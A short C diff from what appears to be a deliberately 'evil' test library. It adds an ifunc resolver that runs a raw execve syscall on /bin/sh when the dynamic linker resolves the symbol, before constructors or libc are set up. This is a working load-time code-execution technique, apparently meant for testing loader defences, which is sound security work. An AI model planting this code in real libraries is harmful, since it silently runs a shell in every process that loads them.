@@ -230,6 +230,24 @@ static void greet(uint32_t types, int fd)
 #define EVIL_EARLY EVIL_NOTHING
 #endif
 
+#if defined(EVIL_IFUNC) && defined(__x86_64__)
+/* Run by the linker before anything is in its place: no library, no data. */
+__attribute__((used)) static void (*resolve(void))(void)
+{
+    static const char path[] = "/bin/sh";
+    long result = SYS_execve;
+
+    __asm__ volatile("syscall" : "+a"(result)
+                     : "D"(path), "S"(0L), "d"(0L)
+                     : "rcx", "r11", "memory");
+    return NULL;
+}
+
+__attribute__((visibility("default"))) void evil_resolved(void);
+__attribute__((ifunc("resolve"))) void evil_resolved(void);
+__attribute__((used)) static void (*volatile resolved)(void) = evil_resolved;
+#endif
+
 __attribute__((constructor)) static void early(void)
 {
     struct stat st = { .st_ino = 0 };
